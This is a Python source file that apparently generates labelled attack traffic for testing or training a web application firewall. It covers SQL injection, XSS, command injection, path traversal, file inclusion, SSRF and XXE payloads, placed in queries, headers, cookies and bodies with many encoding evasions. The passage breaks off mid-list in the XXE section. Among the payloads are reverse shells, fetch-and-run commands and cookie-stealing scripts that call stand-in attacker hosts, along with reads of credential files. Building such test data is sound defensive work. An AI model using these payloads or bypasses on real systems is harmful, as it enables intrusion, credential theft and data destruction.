"""Attack requests, by category.

Each category lists base payloads as the attacker means them, then places them where real attacks arrive
(query arguments, path, headers, cookies, form/JSON/XML/multipart bodies) and adds evasions of payloads a
WAF is expected to catch (multiple URL-encoding, %uXXXX, entities, full-width and overlong UTF-8, case
mixing, SQL comments, whitespace variants, string concatenation, nested JNDI lookups, null bytes, path
tricks). Every request records where the payload sits ("location") and which evasion it uses ("evasion").
"""
from encoders import (b64, base_headers, case_mix, double_pct, fullwidth, html_entities, json_body, make,
                      multipart, overlong, pct, pct_all, pct_plus, sql_comment_spaces, sql_versioned,
                      triple_pct, u_encode, ws, xml_text)

ATTACKER_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"


class Sink:
    def __init__(self, rng):
        self.rng = rng
        self.items = []

    def add(self, category, req, location, evasion="none"):
        req["label"] = "attack"
        req["category"] = category
        req["location"] = location
        req["evasion"] = evasion
        self.items.append(req)

    def h(self, **extra):
        h = base_headers(self.rng, ua=ATTACKER_UA)
        h.update(extra)
        return h

    # -- placements: `wire` is already URL-encoded, `value` is the decoded payload --------------------------
    def query(self, cat, value=None, wire=None, path="/api/v1/products", param="q", evasion="none", extra=""):
        w = wire if wire is not None else pct(value)
        self.add(cat, make("GET", "%s?%s=%s%s" % (path, param, w, extra), self.h()), "query", evasion)

    def path(self, cat, wire, prefix="/api/v1/files/", evasion="none"):
        self.add(cat, make("GET", prefix + wire, self.h()), "path", evasion)

    def header(self, cat, name, value, uri="/api/v1/status", evasion="none"):
        h = self.h()
        h[name] = value
        self.add(cat, make("GET", uri, h), "header:" + name.lower(), evasion)

    def cookie(self, cat, value, name="prefs", evasion="none"):
        h = self.h(Cookie="session_id=9f8c2a7e41d94b1b; %s=%s; theme=dark" % (name, pct(value)))
        self.add(cat, make("GET", "/api/v1/account", h), "cookie", evasion)

    def form(self, cat, value, field="comment", uri="/api/v1/feedback", evasion="none", raw=False):
        body = "name=Jane+Doe&email=jane%40example.com&" + field + "=" + (value if raw else pct_plus(value))
        h = self.h(**{"Content-Type": "application/x-www-form-urlencoded"})
        self.add(cat, make("POST", uri, h, body), "form", evasion)

    def json(self, cat, value, uri="/api/v1/orders", evasion="none", method="POST"):
        obj = {"order": {"customer_id": 48213, "items": [{"sku": "TSH-RED-M", "qty": 2, "note": value}],
                         "shipping": {"method": "express"}}}
        h = self.h(**{"Content-Type": "application/json"})
        self.add(cat, make(method, uri, h, json_body(obj)), "json", evasion)

    def json_raw(self, cat, body, uri="/api/v1/orders", evasion="none", method="POST", location="json"):
        h = self.h(**{"Content-Type": "application/json"})
        self.add(cat, make(method, uri, h, body), location, evasion)

    def xml(self, cat, value, uri="/api/v1/orders.xml", evasion="none"):
        body = ('<?xml version="1.0" encoding="UTF-8"?>\n<order><customer>48213</customer>'
                '<note>%s</note></order>' % xml_text(value))
        h = self.h(**{"Content-Type": "application/xml"})
        self.add(cat, make("POST", uri, h, body), "xml", evasion)

    def multipart_field(self, cat, value, uri="/api/v1/upload", evasion="none"):
        ctype, body = multipart([("title", "Quarterly report"), ("description", value)],
                                [("file", "report.txt", "text/plain", "Revenue grew 4% in Q3.\n")])
        h = self.h(**{"Content-Type": ctype})
        self.add(cat, make("POST", uri, h, body), "multipart", evasion)

    def multipart_file(self, cat, filename, content, ctype="text/plain", uri="/api/v1/upload", evasion="none",
                       location="multipart:filename"):
        ct, body = multipart([("title", "upload")], [("file", filename, ctype, content)])
        h = self.h(**{"Content-Type": ct})
        self.add(cat, make("POST", uri, h, body), location, evasion)


# ------------------------------------------------------------------------------------------------------------
def sqli(s):
    C = "sqli"
    base = [
        "' OR '1'='1", "' OR 1=1--", "admin'--", "1' OR '1'='1' /*", "1 OR 1=1", "' OR 'x'='x';--",
        "1' UNION SELECT username, password FROM users--", "-1 UNION ALL SELECT NULL,NULL,version()--",
        "1' AND SLEEP(5)--", "1); WAITFOR DELAY '0:0:5'--", "1' AND 1=(SELECT COUNT(*) FROM tabname); --",
        "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)", "' AND extractvalue(1,concat(0x7e,(SELECT user())))--",
        "1'; DROP TABLE users; --", "'; EXEC xp_cmdshell('whoami')--", "1 AND pg_sleep(5)--",
        "' UNION SELECT table_name,NULL FROM information_schema.tables--", "1' ORDER BY 10--",
        "1 AND 1=2 UNION SELECT 1,group_concat(column_name) FROM information_schema.columns",
        "' OR BENCHMARK(5000000,MD5(1))#", "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
        "' HAVING 1=1--", "' AND updatexml(1,concat(0x7e,database()),1)--", "1;SELECT pg_sleep(10)",
        "') OR ('a'='a", "\" OR \"\"=\"", "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))--",
        "' UNION SELECT load_file('/etc/passwd')--", "1 INTO OUTFILE '/var/www/html/s.php'",
        "'; SELECT dbms_pipe.receive_message(('a'),10) FROM dual--",
    ]
    params = ["id", "q", "user", "sort", "category", "filter"]
    for i, p in enumerate(base):
        s.query(C, p, param=params[i % len(params)])
    # other locations
    for i, p in enumerate(base[:10]):
        [s.form, s.json, s.cookie, s.xml, s.multipart_field][i % 5](C, p)
    s.json_raw(C, '{"username":"admin\' OR 1=1--","password":"x"}', uri="/api/v1/login")
    s.json_raw(C, '{"filter":{"and":[{"field":"status","value":"1\' UNION SELECT card_number,cvv FROM payments--"}]}}',
               uri="/api/v1/search")
    s.header(C, "User-Agent", "Mozilla/5.0' AND SLEEP(5) AND '1'='1")
    s.header(C, "Referer", "https://shop.example.com/?id=1' UNION SELECT NULL,@@version--")
    s.header(C, "X-Forwarded-For", "127.0.0.1' OR 1=1--")
    s.header(C, "X-Tenant-Id", "acme'; DROP TABLE tenants;--")
    s.path(C, pct("1' OR '1'='1", safe=""), prefix="/api/v1/users/")
    s.path(C, "42%20UNION%20SELECT%20password%20FROM%20users", prefix="/api/v1/products/")
    # evasions
    u = "1' UNION SELECT username, password FROM users--"
    s.query(C, wire=double_pct(u), param="id", evasion="double-urlencode")
    s.query(C, wire=triple_pct("' OR 1=1--"), param="id", evasion="triple-urlencode")
    s.query(C, wire=u_encode(u), param="id", evasion="%u")
    s.query(C, wire=fullwidth("' OR 1=1--"), param="id", evasion="fullwidth")
    s.query(C, wire=overlong("' OR '1'='1"), param="id", evasion="overlong-utf8")
    s.query(C, case_mix(u), param="id", evasion="case")
    s.query(C, "1'/**/UNION/**/SELECT/**/username,password/**/FROM/**/users--", param="id", evasion="sql-comment")
    s.query(C, sql_versioned("1' union select username,password from users-- -"), param="id", evasion="mysql-versioned-comment")
    s.query(C, "1'/*!50000UnIoN*//*!50000SeLeCt*/1,2,3-- -", param="id", evasion="mysql-versioned-comment+case")
    s.query(C, wire=ws(pct("1' UNION SELECT 1,2,3--"), "%09"), param="id", evasion="whitespace-tab")
    s.query(C, wire=pct("1'").replace("%27", "%27") + "%0bOR%0b1=1--", param="id", evasion="whitespace-vt")
    s.query(C, wire="1%27%0aUNION%0aSELECT%0auser,pass%0aFROM%0ausers--", param="id", evasion="whitespace-newline")
    s.query(C, wire="1%27%0cOR%0c%271%27=%271", param="id", evasion="whitespace-ff")
    s.query(C, "admin' AND password=''||'' OR 'ad'||'min'='admin", param="user", evasion="concat-pipes")
    s.query(C, "1' AND CONCAT('ad','min')=(SELECT user FROM admins LIMIT 1)--", param="id", evasion="concat")
    s.query(C, "1' UNION SELECT CHAR(117,115,101,114),password FROM users--", param="id", evasion="char()")
    s.query(C, "1 UNION SELECT 0x61646d696e,password FROM users", param="id", evasion="hex-literal")
    s.query(C, "' OR 2>1--", param="id", evasion="tautology-variant")
    s.query(C, "' OR 'a' LIKE 'a", param="id", evasion="like")
    s.query(C, "1' || (SELECT 1 FROM dual WHERE 1=1)='1", param="id", evasion="pipes")
    s.query(C, "1'%00' UNION SELECT 1,2--", param="id", evasion="null-byte")
    s.query(C, "-1'||(select/**/sleep(5))||'", param="id", evasion="comment+pipes")
    s.query(C, "1'and(select(1)from(select(sleep(5)))a)--", param="id", evasion="no-spaces")
    s.query(C, "1'\tOR\t1=1\t--", param="id", evasion="whitespace-tab")
    s.query(C, "1' oR 1=1 #", param="id", evasion="case+hash-comment")
    s.json_raw(C, '{"id":"1\\u0027 UNION SELECT password FROM users--"}', uri="/api/v1/lookup", evasion="json-unicode-escape")
    s.form(C, sql_comment_spaces("' or 1=1 --"), field="username", uri="/login", evasion="sql-comment")
    s.cookie(C, case_mix("' UNION SELECT session FROM sessions--"), name="cart", evasion="case")
    s.header(C, "X-Forwarded-For", "1.2.3.4'/**/or/**/sleep(5)#", evasion="sql-comment")
    s.query(C, wire=pct_all("' or 1=1 --"), param="id", evasion="percent-all")
    s.query(C, "1' AnD 1=1 UnIoN aLl SeLeCt 1,table_name,3 FrOm information_schema.tables--", param="id", evasion="case")


def xss(s):
    C = "xss"
    base = [
        "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "<svg/onload=alert(1)>",
        "\"><script>alert(String.fromCharCode(88,83,83))</script>", "javascript:alert(document.domain)",
        "<iframe src=\"javascript:alert(1)\"></iframe>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
        "'-alert(1)-'", "\";alert(1);//", "<a href=\"javascript:fetch('//evil.example/'+document.cookie)\">x</a>",
        "<input autofocus onfocus=alert(1)>", "<video><source onerror=\"alert(1)\">", "<marquee onstart=alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<script src=//evil.example/x.js></script>", "<img src=1 onerror=eval(atob('YWxlcnQoMSk='))>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<div style=\"background:url(javascript:alert(1))\">",
        "<x onpointerenter=alert(1)>hover</x>", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
        "{{constructor.constructor('alert(1)')()}}", "<embed src=\"javascript:alert(1)\">", "<form action=javascript:alert(1)><input type=submit>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "<isindex type=image src=1 onerror=alert(1)>",
        "<base href=\"javascript:alert(1)//\">", "<link rel=import href=\"data:text/html,<script>alert(1)</script>\">",
        "</textarea><script>alert(1)</script>",
    ]
    params = ["q", "search", "name", "redirect", "msg", "title"]
    for i, p in enumerate(base):
        s.query(C, p, param=params[i % len(params)])
    for i, p in enumerate(base[:15]):
        [s.form, s.json, s.cookie, s.xml, s.multipart_field][i % 5](C, p)
    s.json_raw(C, json_body({"post": {"title": "Hi", "body": "nice <img src=x onerror=alert(1)>", "tags": ["a"]}}),
               uri="/api/v1/posts")
    s.json_raw(C, json_body({"profile": {"display_name": "<svg onload=alert(document.cookie)>"}}), uri="/api/v1/me", method="PATCH")
    s.header(C, "Referer", "https://example.com/\"><script>alert(1)</script>")
    s.header(C, "User-Agent", "<script>alert('ua')</script>")
    s.header(C, "X-Forwarded-Host", "evil.example\"><img src=x onerror=alert(1)>")
    s.path(C, pct("<script>alert(1)</script>"), prefix="/search/")
    s.path(C, "%3Csvg%20onload%3Dalert(1)%3E", prefix="/profile/")
    s.multipart_file(C, "\"><img src=x onerror=alert(1)>.png", "\x89PNG fake", ctype="image/png")
    s.multipart_file(C, "drawing.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>',
                     ctype="image/svg+xml", location="multipart:file")
    # evasions
    p = "<script>alert(1)</script>"
    s.query(C, wire=double_pct(p), evasion="double-urlencode")
    s.query(C, wire=triple_pct("<svg onload=alert(1)>"), evasion="triple-urlencode")
    s.query(C, wire=u_encode(p), evasion="%u")
    s.query(C, wire=fullwidth("<script>alert(1)</script>"), evasion="fullwidth")
    s.query(C, wire=overlong("<script>alert(1)</script>", chars="<>"), evasion="overlong-utf8")
    s.query(C, "<ScRiPt>alert(1)</sCrIpT>", evasion="case")
    s.query(C, "<IMG SRC=x OnErRoR=alert(1)>", evasion="case")
    s.query(C, "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>", evasion="html-entities")
    s.query(C, "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", evasion="html-entities+tab")
    s.query(C, "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>", evasion="html-named-entities")
    s.query(C, "<svg><script>&#97;&#108;&#101;&#114;&#116;(1)</script></svg>", evasion="html-entities")
    s.query(C, "<img src=x onerror\t=alert(1)>", evasion="whitespace-tab")
    s.query(C, wire="%3Csvg%0aonload%3Dalert(1)%3E", evasion="whitespace-newline")
    s.query(C, wire="%3Cimg%0csrc%3Dx%0conerror%3Dalert(1)%3E", evasion="whitespace-ff")
    s.query(C, "<img/src/onerror=alert(1)>", evasion="slash-separator")
    s.query(C, wire="%3Cscr%00ipt%3Ealert(1)%3C/script%3E", evasion="null-byte")
    s.query(C, "<scr<script>ipt>alert(1)</scr</script>ipt>", evasion="nested-tag")
    s.query(C, "<img src=x onerror=window['al'+'ert'](1)>", evasion="concat")
    s.query(C, "<img src=x onerror=top[`al`+`ert`](1)>", evasion="concat-backtick")
    s.query(C, "<svg onload=eval('\\x61lert(1)')>", evasion="js-hex-escape")
    s.query(C, "<svg onload=\\u0061lert(1)>", evasion="js-unicode-escape")
    s.query(C, "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>", evasion="polyglot")
    s.json_raw(C, '{"comment":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}', uri="/api/v1/comments", evasion="json-unicode-escape")
    s.form(C, "%3Cscript%3Ealert(1)%3C%2Fscript%3E", field="comment", evasion="double-urlencode-form", raw=False)
    s.header(C, "Referer", "https://example.com/?q=%3Cscript%3Ealert(1)%3C/script%3E", evasion="urlencoded-in-header")
    s.cookie(C, "<ScRiPt>alert(1)</ScRiPt>", name="lang", evasion="case")
    s.query(C, "<svg onload=alert&#40;1&#41;>", evasion="html-entities-parens")
    s.query(C, "\"onmouseover=\"alert(1)", param="name", evasion="attr-break")
    s.query(C, "<iframe/src=\"data:text/html,%3Cscript%3Ealert(1)%3C/script%3E\">", evasion="data-uri")


def cmdi(s):
    C = "cmdi"
    base = [
        ";cat /etc/passwd", "| id", "$(id)", "`id`", "&& whoami", "; nc -e /bin/sh 203.0.113.7 4444",
        ";curl http://203.0.113.7/x.sh|sh", "| powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')\"",
        "& ping -n 10 127.0.0.1 &", ";wget http://203.0.113.7/bot -O /tmp/b;chmod +x /tmp/b;/tmp/b", "|| uname -a",
        "; bash -i >& /dev/tcp/203.0.113.7/8080 0>&1", "127.0.0.1; ls -la /", "8.8.8.8 && cat /etc/shadow",
        "$(curl -s http://203.0.113.7/$(whoami))", "; python -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",9001));pty.spawn(\"/bin/sh\")'",
        "| cmd.exe /c dir c:\\", "& net user hacker P@ss /add", "; rm -rf / --no-preserve-root", "|/bin/busybox telnetd -l /bin/sh -p 9999",
        "; perl -e 'exec \"/bin/sh\"'", "`sleep 10`", "; echo PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs= | base64 -d > /var/www/s.php",
        "x;env", "| nslookup $(whoami).evil.example", "; find / -perm -4000 -type f", "|| ping -c 10 127.0.0.1",
        "; /usr/bin/id", "$(/bin/sleep 5)", "a|tail -n 50 /var/log/auth.log",
    ]
    params = ["host", "ip", "cmd", "file", "domain", "target"]
    for i, p in enumerate(base):
        s.query(C, p, param=params[i % len(params)], path="/api/v1/tools/ping")
    for i, p in enumerate(base[:12]):
        [s.form, s.json, s.cookie, s.xml, s.multipart_field][i % 5](C, p)
    s.json_raw(C, json_body({"job": {"name": "backup", "args": ["--dest", "/tmp/x; curl http://203.0.113.7/s|sh"]}}),
               uri="/api/v1/jobs")
    s.header(C, "User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'")
    s.header(C, "Referer", "() { ignored; }; echo; /usr/bin/id")
    s.header(C, "X-Api-Host", "example.com; id")
    s.multipart_file(C, "a.jpg; curl http://203.0.113.7/s|sh;.jpg", "JFIF", ctype="image/jpeg")
    s.path(C, pct(";cat /etc/passwd"), prefix="/cgi-bin/status/")
    # evasions
    s.query(C, "c'a't /e'tc'/pa'ss'wd", param="host", evasion="quote-concat")
    s.query(C, ";c\"a\"t /etc/pass\"wd\"", param="host", evasion="dquote-concat")
    s.query(C, ";cat$IFS/etc/passwd", param="host", evasion="$IFS")
    s.query(C, ";cat${IFS}/etc${IFS}/passwd", param="host", evasion="${IFS}")
    s.query(C, ";cat ${PATH:0:1}etc${PATH:0:1}passwd", param="host", evasion="${PATH:0:1}")
    s.query(C, ";/???/c?t /???/p??s??", param="host", evasion="glob")
    s.query(C, ";{cat,/etc/passwd}", param="host", evasion="brace-expansion")
    s.query(C, ";\\c\\a\\t /etc/passwd", param="host", evasion="backslash")
    s.query(C, "$(printf '\\x69\\x64')", param="host", evasion="printf-hex")
    s.query(C, ";echo aWQ=|base64 -d|sh", param="host", evasion="base64")
    s.query(C, ";$u cat /etc$u/passwd", param="host", evasion="empty-var")
    s.query(C, wire="127.0.0.1%0aid", param="host", evasion="newline")
    s.query(C, wire="127.0.0.1%0d%0acat%20/etc/passwd", param="host", evasion="crlf-separator")
    s.query(C, wire=double_pct(";cat /etc/passwd"), param="host", evasion="double-urlencode")
    s.query(C, wire=u_encode("|id"), param="host", evasion="%u")
    s.query(C, wire=fullwidth(";id"), param="host", evasion="fullwidth")
    s.query(C, ";CaT /EtC/PaSsWd", param="host", evasion="case")
    s.query(C, "a;w'h'o'a'm'i", param="host", evasion="quote-concat")
    s.query(C, ";who$()ami", param="host", evasion="empty-subst")
    s.query(C, "|/b?n/c?t${IFS}/e??/p?ss?d", param="host", evasion="glob+$IFS")
    s.query(C, wire="%3Bcat%09/etc/passwd", param="host", evasion="whitespace-tab")
    s.query(C, ";a=c;b=at;$a$b /etc/passwd", param="host", evasion="var-concat")
    s.query(C, "&& p\"o\"w\"e\"r\"s\"h\"e\"l\"l -enc SQBFAFgA", param="host", evasion="dquote-concat")
    s.query(C, ";cat%00/etc/passwd", param="host", evasion="null-byte")
    s.query(C, "`echo${IFS}d2hvYW1p|base64${IFS}-d`", param="host", evasion="base64+$IFS")
    s.form(C, "127.0.0.1|$(echo${IFS}Y2F0IC9ldGMvcGFzc3dk|base64${IFS}-d|sh)", field="host", uri="/admin/ping", evasion="base64+$IFS")
    s.json_raw(C, '{"host":"8.8.8.8\\n/bin/id"}', uri="/api/v1/tools/dns", evasion="json-newline")
    s.cookie(C, ";c''at /etc/passwd", evasion="quote-concat")
    s.query(C, ';"c""at" /etc/passwd', param="host", evasion="dquote-concat")
    s.query(C, "& t^y^p^e C:\\windows\\win.ini", param="host", evasion="caret")
    s.query(C, "| (G`e`t-Content C:\\windows\\win.ini)", param="host", evasion="powershell-backtick")
    s.query(C, wire="127.0.0.1%0bid", param="host", evasion="whitespace-vt")


def traversal(s):
    C = "traversal"
    base_wire = [
        "../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "....//....//....//etc/passwd", "..\\..\\..\\windows\\win.ini", "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
        "/etc/passwd", "/etc/shadow", "../../../../proc/self/environ", "../../WEB-INF/web.xml",
        "C:\\boot.ini", "..%2F..%2F..%2F..%2Fvar%2Flog%2Fapache2%2Faccess.log", "../../../../../../root/.ssh/id_rsa",
        "..%252f..%252f..%252fetc%252fpasswd", "%252e%252e%252f%252e%252e%252fetc%252fpasswd", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "..%u2216..%u2216windows%u2216win.ini",
        "%u002e%u002e%u002f%u002e%u002e%u002fetc%u002fpasswd", "../../../etc/passwd%00.png", "..;/..;/..;/etc/passwd",
        ".%2e/.%2e/.%2e/etc/passwd", "..%00/..%00/etc/passwd", "....\\\\....\\\\windows\\\\win.ini",
        "%2e%2e%5c%2e%2e%5cboot.ini", "/var/www/../../etc/passwd", "../../../../../../../../../../etc/hosts",
        "..%25c0%25af..%25c0%25afetc%25c0%25afpasswd", "file:///etc/passwd", "/proc/self/cmdline",
        "%2e%2e%2f%2e%2e%2f%2e%2e%2f.aws%2fcredentials", "../../.env", "..%2f..%2f.git%2fconfig",
        "..././..././..././etc/passwd", "%%32%65%%32%65/%%32%65%%32%65/etc/passwd",
    ]
    evasion_of = {1: "urlencode-slash", 2: "urlencode-dots", 3: "dot-dot-slash-slash", 4: "backslash", 5: "urlencode-backslash",
                  13: "double-urlencode", 14: "double-urlencode", 15: "overlong-utf8", 16: "overlong-utf8", 17: "%u",
                  18: "%u", 19: "null-byte", 20: "tomcat-semicolon", 21: "mixed-dot", 22: "null-byte", 23: "backslash-double",
                  24: "urlencode-backslash", 27: "double-overlong", 33: "dot-dot-slash-slash", 34: "nested-percent"}
    params = ["file", "path", "template", "page", "doc", "include", "download", "lang"]
    for i, w in enumerate(base_wire):
        s.query(C, wire=w, param=params[i % len(params)], path="/api/v1/download", evasion=evasion_of.get(i, "none"))
    # path placement
    for w, ev in [("..%2f..%2f..%2fetc%2fpasswd", "urlencode-slash"), ("%2e%2e/%2e%2e/%2e%2e/etc/passwd", "urlencode-dots"),
                  ("..%252f..%252fetc%252fpasswd", "double-urlencode"), ("..;/..;/manager/html", "tomcat-semicolon"),
                  ("..%5c..%5cweb.config", "urlencode-backslash"), ("%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd", "overlong-utf8"),
                  ("....//....//etc/passwd", "dot-dot-slash-slash"), ("..%u2215..%u2215etc%u2215passwd", "%u")]:
        s.path(C, w, prefix="/static/", evasion=ev)
    s.path(C, "..%2F..%2F..%2F..%2Fetc%2Fpasswd", prefix="/api/v1/files/", evasion="urlencode-slash")
    s.form(C, "../../../../etc/passwd", field="attachment", uri="/api/v1/tickets")
    s.json(C, "../../../../../etc/passwd")
    s.json_raw(C, json_body({"avatar": {"path": "..\\..\\..\\windows\\win.ini"}}), uri="/api/v1/me", method="PATCH")
    s.xml(C, "../../../../etc/shadow")
    s.cookie(C, "../../../../etc/passwd", name="template")
    s.header(C, "X-Original-URL", "/../../../../etc/passwd")
    s.header(C, "Referer", "https://example.com/download?file=../../../../etc/passwd")
    s.multipart_file(C, "../../../var/www/html/shell.php", "<html>hello</html>", ctype="text/html")
    s.multipart_file(C, "..\\..\\..\\inetpub\\wwwroot\\x.aspx", "hello", ctype="text/plain")
    s.query(C, wire=pct_all("../../etc/passwd"), param="file", evasion="percent-all")
    s.query(C, wire=fullwidth("../../etc/passwd"), param="file", evasion="fullwidth")
    s.query(C, wire="..%2F..%2F..%2F..%2FEtC%2FpAsSwD", param="file", evasion="case")


def rfi(s):
    C = "rfi"
    base = [
        "http://203.0.113.7/shell.txt?", "https://evil.example/c99.txt", "ftp://203.0.113.7/x.php",
        "http://evil.example/r57.php%00", "php://input", "php://filter/convert.base64-encode/resource=index.php",
        "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==", "expect://id", "\\\\203.0.113.7\\share\\shell.php",
        "http://203.0.113.7/shell.txt#", "zip://uploads/avatar.jpg%23shell.php", "phar://uploads/x.phar/shell.php",
        "http://1.2.3.4/inc.txt??", "https://pastebin.example/raw/abc123?", "HTTP://EVIL.EXAMPLE/SHELL.TXT?",
        "http:%2f%2fevil.example%2fshell.txt", "//evil.example/shell.txt", "php://filter/read=string.rot13/resource=config.php",
        "file://203.0.113.7/share/x.php", "http://evil.example/shell.jpg?.php", "ftps://evil.example/a.txt",
        "glob://*.php", "http://203.0.113.7:8080/payload.txt?x=", "data:text/plain,<?php phpinfo();?>",
    ]
    params = ["page", "include", "file", "template", "url", "lang", "module"]
    for i, p in enumerate(base):
        # a '%' in a base payload is encoded once more on the wire: the target decodes twice
        s.query(C, p, param=params[i % len(params)], path="/index.php", evasion="double-urlencode" if "%" in p else "none")
    for i, p in enumerate(base[:10]):
        [s.form, s.json, s.cookie, s.xml, s.multipart_field][i % 5](C, p)
    s.query(C, wire=double_pct("http://evil.example/shell.txt?"), param="page", path="/index.php", evasion="double-urlencode")
    s.query(C, wire=u_encode("http://evil.example/shell.txt?"), param="page", path="/index.php", evasion="%u")
    s.query(C, "hTtP://EvIl.example/shell.txt?", param="page", path="/index.php", evasion="case")
    s.query(C, "PhP://InPuT", param="page", path="/index.php", evasion="case")
    s.query(C, wire="http%3A%2F%2F203.0.113.7%2Fshell.txt%3F%00", param="page", path="/index.php", evasion="null-byte")
    s.query(C, "http://0xcb007107/shell.txt?", param="inc", path="/index.php", evasion="hex-ip")
    s.header(C, "Referer", "http://evil.example/shell.txt?", uri="/index.php?page=home")
    s.header(C, "X-Include", "php://filter/convert.base64-encode/resource=/etc/passwd")
    s.path(C, "http:%2F%2Fevil.example%2Fshell.txt%3F", prefix="/index.php/include/", evasion="urlencode-slash")
    s.query(C, wire=fullwidth("http://evil.example/x.txt?"), param="page", path="/index.php", evasion="fullwidth")


def ssrf(s):
    C = "ssrf"
    base = [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/computeMetadata/v1/instance/",
        "http://127.0.0.1:6379/", "http://localhost:8080/admin", "gopher://127.0.0.1:6379/_SET%20x%20y", "dict://127.0.0.1:11211/stats",
        "http://[::1]:22/", "http://0x7f000001/", "http://2130706433/", "http://0177.0.0.1/", "http://127.1/server-status",
        "http://169.254.169.254.nip.io/latest/meta-data/", "http://10.0.0.5:2375/containers/json", "http://[::ffff:127.0.0.1]/",
        "http://localhost%2523@evil.example/", "http://evil.example@127.0.0.1/", "http://0.0.0.0:9200/_cat/indices",
        "http://169.254.170.2/v2/credentials", "http://100.100.100.200/latest/meta-data/", "file:///etc/passwd",
        "http://192.168.0.1/cgi-bin/luci", "ldap://127.0.0.1:389/", "http://kubernetes.default.svc/api/v1/secrets",
        "http://[fd00:ec2::254]/latest/meta-data/", "http://instance-data/latest/meta-data/", "tftp://127.0.0.1:69/x",
        "http://①②⑦.⓪.⓪.①/", "jar:http://127.0.0.1:8080/x.jar!/",
    ]
    for i, p in enumerate(base):
        [lambda v: s.query(C, v, param="url", path="/api/v1/preview"),
         lambda v: s.query(C, v, param="webhook", path="/api/v1/integrations/test"),
         lambda v: s.json_raw(C, json_body({"webhook": {"url": v, "events": ["order.created"]}}), uri="/api/v1/webhooks"),
         lambda v: s.form(C, v, field="image_url", uri="/api/v1/avatar/import")][i % 4](p)
    s.query(C, wire=double_pct("http://169.254.169.254/latest/meta-data/"), param="url", path="/api/v1/preview", evasion="double-urlencode")
    s.query(C, "HTTP://169.254.169.254/LATEST/META-DATA/", param="url", path="/api/v1/preview", evasion="case")
    s.query(C, "http://169.254.169.254%2f@evil.example/", param="url", path="/api/v1/preview", evasion="userinfo-trick")
    s.query(C, "http://0251.0376.0251.0376/latest/meta-data/", param="url", path="/api/v1/preview", evasion="octal-ip")
    s.query(C, "http://2852039166/latest/meta-data/", param="url", path="/api/v1/preview", evasion="decimal-ip")
    s.query(C, "http://0xa9fea9fe/latest/meta-data/", param="url", path="/api/v1/preview", evasion="hex-ip")
    s.header(C, "X-Forwarded-Host", "169.254.169.254")
    s.header(C, "Referer", "http://127.0.0.1:8500/v1/agent/self", uri="/api/v1/preview?url=referer")
    s.xml(C, "http://169.254.169.254/latest/user-data")
    s.cookie(C, "http://127.0.0.1:2379/v2/keys", name="return_to")
    s.multipart_field(C, "gopher://127.0.0.1:25/_HELO%20evil")
    s.json(C, "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/", evasion="ipv6-mapped")
    s.query(C, wire=u_encode("http://127.0.0.1/admin"), param="url", path="/api/v1/preview", evasion="%u")


def xxe(s):
    C = "xxe"
    docs = [
        '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><order><note>&xxe;</note></order>',
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % dtd SYSTEM "http://203.0.113.7/evil.dtd"> %dtd;]><r/>',
        '<?xml version="1.0"?><!DOCTYPE data [<!ENTITY file SYSTEM "file:///c:/windows/win.ini">]><data>&file;</data>',
        '<!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]><foo>&xxe;</foo>',
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>',
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">]><x>&xxe;</x>',
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "expect://id">]><x>&xxe;</x>',
        '<?xml version="1.0"?><!DOCTYPE x PUBLIC "-//X//Y" "http://203.0.113.7/x.dtd"><x>1</x>',
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % a SYSTEM "file:///etc/passwd"><!ENTITY % b "<!ENTITY &#x25; c SYSTEM \'http://203.0.113.7/?%a;\'>">%b;%c;]><x/>',
